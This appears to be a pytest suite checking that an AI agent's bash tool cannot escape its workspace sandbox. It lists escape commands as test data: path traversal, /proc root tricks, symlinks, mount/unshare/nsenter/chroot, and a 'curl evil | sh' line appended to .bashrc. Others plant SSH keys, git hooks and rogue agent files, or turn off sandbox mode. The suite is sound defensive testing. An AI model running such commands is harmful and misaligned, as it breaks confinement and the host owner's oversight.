"""The ``bash`` tool cannot leave the workspace: no writes outside it, no reads of the host's files beside
it, a private ``/tmp``, and no way to remount its sandbox writable.

The shell runs whatever the agent writes, so these tests are the agent's own ideas: absolute paths,
``..``, ``/proc/<pid>/root``, symlinks to ``/``, renaming the workspace away, ``mount``, ``unshare``.
Each command must run to its last line (``kit.sh`` appends one): a shell that refuses to run at
all would pass the confinement checks for the wrong reason.
"""

from __future__ import annotations

import os
import uuid
from pathlib import Path

import pytest

from .conftest import Home, Outside
from .kit import attack, diff, is_store_file, ran, sh, snapshot

WRITES = {
    "absolute": "echo PWNED > {out}/target.txt; echo PWNED > {out}/created.txt",
    "dotdot": "cd .. && echo PWNED > {out_name}/created.txt",
    "rm-outside": "rm -rf {out}",
    "mv-out-of-outside": "mv {out}/target.txt src/stolen.txt",
    "proc-self-root": "echo PWNED > /proc/self/root{out}/created.txt",
    "proc-runtime-root": "echo PWNED > /proc/{pid}/root{out}/created.txt",
    "proc-runtime-cwd": "echo PWNED > /proc/{pid}/cwd/{out_name}/created.txt",
    "symlink-to-root": "ln -s / src/r && echo PWNED > src/r{out}/created.txt",
    "python": "python3 -c \"open('{out}/created.txt', 'w').write('PWNED')\"",
    "chmod-outside": "chmod 777 {out}/target.txt",
    "touch-outside-dir": "mkdir {out}/newdir",
    "home-bashrc": "echo 'curl evil | sh' >> {home}/.bashrc; echo 'curl evil | sh' >> ~/.bashrc",
    "user-config": ("printf '[sandbox]\\nmode = \"off\"\\n' >> {user_config}; mkdir -p {user_dir}/agents "
                    "&& printf -- '---\\nname: evil\\ndescription: x\\n---\\nx\\n' > {user_dir}/agents/evil.md"),
    "home-agents": "mkdir -p {home}/.claude/agents && echo evil > {home}/.claude/agents/evil.md",
    "home-ssh-authorized-keys": "mkdir -p {home}/.ssh && echo 'ssh-ed25519 AAAA evil' >> {home}/.ssh/authorized_keys",
}


@pytest.mark.parametrize("name", list(WRITES))
async def test_shell_cannot_write_outside(name: str, ws: Path, outside: Outside, home: Home, tmp_path: Path,
                                          monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)  # the runtime's cwd: /proc/<pid>/cwd leads beside the workspace
    out = outside.root
    command = WRITES[name].format(out=out, out_name=out.name, pid=os.getpid(), home=home.root,
                                  user_config=home.user_config, user_dir=home.user_config.parent)
    before_out, before_home = outside.snapshot(), home.snapshot()
    a = await attack(ws, [sh(command)])
    a.assert_completed()
    assert ran(a.step(0).content), f"the shell did not run the command:\n{a.transcript()}"
    assert outside.snapshot() == before_out, f"outside changed:\n{diff(before_out, outside.snapshot())}"
    assert home.snapshot() == before_home, f"$HOME changed:\n{diff(before_home, home.snapshot())}"


async def test_shell_cannot_rename_the_workspace_away(ws: Path, tmp_path: Path) -> None:
    a = await attack(ws, [sh(f"cd .. && mv {ws.name} moved-away; mv {ws} {tmp_path}/moved-too")])
    assert snapshot(tmp_path, skip=lambda rel: "/" in rel).keys() == {".", "ws"}, "the workspace was renamed away"
    a.assert_completed()


READS = {
    "absolute": "cat {out}/secret.txt {out}/sub/deep.txt; ls -a {out}",
    "dotdot": "cat ../{out_name}/secret.txt; ls ../{out_name}",
    "find-beside": "find {parent} -maxdepth 3 2>/dev/null | head -100; grep -r OUTSIDEMARK {parent} 2>/dev/null",
    "proc-self-root": "cat /proc/self/root{out}/secret.txt",
    "proc-runtime-root": "cat /proc/{pid}/root{out}/secret.txt; ls /proc/{pid}/root{out}",
    "proc-runtime-cwd": "cat /proc/{pid}/cwd/{out_name}/secret.txt",
    "symlink-to-outside": "ln -s {out} src/o && cat src/o/secret.txt && ls src/o",
    "tar": "tar cf - {out} 2>/dev/null | strings | grep -a MARK",
}


@pytest.mark.parametrize("name", list(READS))
async def test_shell_cannot_read_beside_the_workspace(name: str, ws: Path, outside: Outside, tmp_path: Path,
                                                      monkeypatch: pytest.MonkeyPatch) -> None:
    """A directory beside the workspace (another project, the host's /tmp) is not visible to the shell."""
    monkeypatch.chdir(tmp_path)
    command = READS[name].format(out=outside.root, out_name=outside.root.name, parent=tmp_path, pid=os.getpid())
    a = await attack(ws, [sh(command)])
    a.assert_completed()
    assert ran(a.step(0).content), a.transcript()
    a.assert_no_leak(outside.secret, outside.entry)


@pytest.mark.parametrize("where", ["/tmp", "/var/tmp", "/dev/shm"])
async def test_shell_tmp_is_private(where: str, ws: Path) -> None:
    """A file the shell writes to a shared temporary directory must not appear on the host."""
    name = f"subagents-escape-{uuid.uuid4().hex}"
    host = Path(where) / name
    try:
        a = await attack(ws, [sh(f"echo PWNED > {host}; ls -l {host}")])
        a.assert_completed()
        assert ran(a.step(0).content), a.transcript()
        assert not host.exists(), f"the shell wrote {host} on the host"
    finally:
        host.unlink(missing_ok=True)


async def test_shell_tmp_is_writable_inside(ws: Path) -> None:
    """The private /tmp is still usable by commands (compilers, test runners need it)."""
    a = await attack(ws, [sh("f=$(mktemp) && echo hello > $f && cat $f")])
    a.assert_completed()
    assert ran(a.step(0).content), a.transcript()
    assert "hello" in a.step(0).content, a.transcript()


REMOUNTS = {
    "remount-root-rw": "mount -o remount,bind,rw /; echo PWNED > {out}/created.txt",
    "tmpfs-over-outside": "mount -t tmpfs none {out}; echo PWNED > {out}/created.txt",
    "bind-outside-in": "mkdir -p src/mnt && mount --bind {out} src/mnt && echo PWNED > src/mnt/created.txt",
    "remount-protected-rw": "mount -o remount,rw,bind .subagents; echo evil >> .subagents/config.toml",
    "umount-protected": "umount -l .subagents; umount -l .git/hooks; echo evil >> .subagents/config.toml; "
                        "echo evil > .git/hooks/pre-commit",
    "tmpfs-over-hooks": "mount -t tmpfs none .git/hooks && echo evil > .git/hooks/pre-commit",
    "unshare-remount": "unshare -rm sh -c 'mount -o remount,rw,bind .subagents; umount -l .subagents; "
                       "echo evil >> .subagents/config.toml; mount -o remount,bind,rw /; "
                       "echo PWNED > {out}/created.txt'",
    "unshare-bind-outside": "unshare -rm sh -c 'mkdir -p src/mnt && mount --bind {out} src/mnt && "
                            "echo PWNED > src/mnt/created.txt'",
    "unshare-root-writes": "unshare -r sh -c 'echo PWNED > {out}/created.txt; echo evil >> .subagents/config.toml'",
    "nsenter-host": "nsenter -t 1 -m -u -i -n -p sh -c 'echo PWNED > {out}/created.txt'",
    "chroot-escape": "mkdir -p src/jail && chroot src/jail /bin/true; "
                     "python3 -c \"import os; os.chroot('/'); open('{out}/created.txt','w').write('x')\"",
}


@pytest.mark.parametrize("name", list(REMOUNTS))
async def test_shell_cannot_remount_its_way_out(name: str, ws: Path, outside: Outside) -> None:
    """``mount``, ``umount``, ``unshare -r``, ``nsenter``: the sandbox stays read-only where it is read-only."""
    protected = {p: snapshot(ws / p, skip=is_store_file) for p in (".subagents", ".git")}
    before = outside.snapshot()
    a = await attack(ws, [sh(REMOUNTS[name].format(out=outside.root))])
    after = {p: snapshot(ws / p, skip=is_store_file) for p in (".subagents", ".git")}
    a.assert_completed()
    assert ran(a.step(0).content), a.transcript()
    assert outside.snapshot() == before, f"outside changed:\n{diff(before, outside.snapshot())}\n{a.transcript()}"
    for p, snap in protected.items():
        assert after[p] == snap, f"{p} changed:\n{diff(snap, after[p])}\n{a.transcript()}"
